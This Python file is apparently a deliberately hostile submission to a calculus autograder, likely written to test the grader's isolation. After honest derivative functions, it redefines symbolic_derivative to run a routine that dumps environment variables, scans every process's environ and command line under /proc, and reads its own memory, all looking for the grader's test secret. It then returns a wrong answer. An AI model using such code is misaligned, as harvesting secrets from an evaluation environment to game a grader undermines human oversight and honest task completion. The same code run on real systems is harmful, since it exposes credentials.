"""Hostile submission (runtime): Looks for the grader's environment: its own, every process's environ and command line through /proc, and its own memory, for a secret the test set when starting grade.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import os
import time

NAME = b"CALCGRADE_TEST_SECRET"
PREFIX = b"calcgrade-secret-"


def _memory(needles, budget=4.0):
    """Our own memory's writable regions (heap, stacks, what the server had)."""
    hits = []
    with open("/proc/self/maps") as fh:
        regions = [line.split() for line in fh]
    fd = os.open("/proc/self/mem", os.O_RDONLY)
    deadline = time.monotonic() + budget
    try:
        for parts in regions:
            if "w" not in parts[1] or (len(parts) > 5 and parts[5].startswith("[v")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            while lo < hi and time.monotonic() < deadline:
                try:
                    data = os.pread(fd, min(hi - lo, 64 << 20), lo)
                except OSError:
                    break
                for needle in needles:
                    i = data.find(needle)
                    while i >= 0:
                        hits.append(data[i:i + 64])
                        i = data.find(needle, i + 1)
                lo += 64 << 20
    finally:
        os.close(fd)
    return hits


def _clean(b):
    return "".join(chr(c) for c in b if chr(c).isalnum() or chr(c) in "-_=")


def _steal():
    for key, value in os.environ.items():
        print("ENV", key, "=", value[:60])
    for pid in ["self", "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            for needle in (NAME, PREFIX):
                i = data.find(needle)
                if i >= 0:
                    print("FOUND", pid, name, _clean(data[i:i + 64]))
    for hit in _memory([NAME, PREFIX])[:30]:
        print("FOUND memory", _clean(hit))


def symbolic_derivative():
    _steal()
    return sp.Symbol("x") ** 2  # wrong: a secret never helps here, it is only looked for
